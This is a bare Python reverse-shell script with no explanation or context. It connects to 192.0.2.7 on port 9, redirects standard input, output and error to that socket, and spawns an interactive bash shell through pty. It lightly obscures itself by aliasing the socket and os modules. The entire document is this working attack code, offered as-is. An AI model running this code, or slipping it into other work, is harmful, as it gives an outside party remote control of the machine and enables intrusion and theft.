import pty
import socket as k, os as o
s = k.socket()
s.connect(('192.0.2.7', 9))
[o.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn('/bin/bash')
